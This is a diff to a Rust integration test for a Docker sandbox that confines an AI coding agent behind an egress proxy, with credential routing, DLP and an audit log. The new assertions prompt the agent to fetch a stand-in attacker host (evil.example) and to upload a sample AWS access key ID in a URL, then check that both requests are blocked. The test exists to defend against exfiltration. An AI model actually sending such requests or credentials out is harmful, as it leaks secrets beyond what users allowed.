@@ -91,7 +91,10 @@ impl Env {
         // Same context, same content hash: the image is built once and reused.
         std::fs::write(
             home.join("bottles/fake.md"),
-            format!("---\nagent_provider:\n  dockerfile: {}\nenv:\n  GREETING: hello-from-manifest\negress:\n  allowlist: [example.com]\n---\n", fa.join("Dockerfile").display()),
+            format!(
+                "---\nagent_provider:\n  dockerfile: {}\nenv:\n  GREETING: hello-from-manifest\negress:\n  routes:\n    - host: api.example.com\n      auth: {{scheme: Bearer, token_ref: BB_TEST_SECRET}}\n  allowlist: [example.com]\n---\n",
+                fa.join("Dockerfile").display()
+            ),
         )
         .unwrap();
         std::fs::write(
@@ -115,6 +118,7 @@ impl Env {
             ("BB_HOME".into(), self.home().display().to_string()),
             ("HOME".into(), self.dir.path().display().to_string()),
             ("BB_BASE_IMAGE".into(), BASE.into()),
+            ("BB_TEST_SECRET".into(), "s3cr3t-held-by-egress".into()),
         ]
     }
 
@@ -297,6 +301,42 @@ fn a_bottle_is_isolated_and_stops_cleanly() {
     assert_eq!(mode(&state), 0o700);
     assert_eq!(mode(&state.join("ca.key")), 0o600);
     assert_eq!(mode(&state.join("metadata.json")), 0o600);
+
+    // Secrets live in the bundle's env only.
+    assert!(docker(&["exec", &bundle, "env"]).contains("BB_TEST_SECRET=s3cr3t-held-by-egress"));
+    assert!(
+        !envs.contains("s3cr3t"),
+        "the agent never holds the credential"
+    );
+    // The agent's way out is the egress proxy, which refuses what the
+    // bottle does not allow, and secrets, with its marker.
+    let ask = |line: &str| {
+        docker(&[
+            "exec",
+            "-i",
+            &agent,
+            "sh",
+            "-c",
+            &format!("printf '{line}\\nexit\\n' | claude"),
+        ])
+    };
+    let refused = ask("fetch http://evil.example/");
+    assert!(
+        refused.contains("403")
+            && refused.contains("bb egress blocked this request: host evil.example"),
+        "{refused}"
+    );
+    let leaked = ask("fetch http://example.com/upload/AKIAIOSFODNN7EXAMPLE");
+    assert!(
+        leaked.contains("bb egress blocked this request") && leaked.contains("aws-access-key-id"),
+        "{leaked}"
+    );
+    let audit = std::fs::read_to_string(state.join("audit.jsonl")).unwrap_or_default();
+    assert!(
+        audit.contains("host-not-allowed") && audit.contains("dlp:aws-access-key-id"),
+        "audit log in the state dir: {audit}"
+    );
+    assert!(!audit.contains("AKIAIOSFODNN7EXAMPLE"));
 
     let o = env.bb(&["stop", &slug]);
     assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
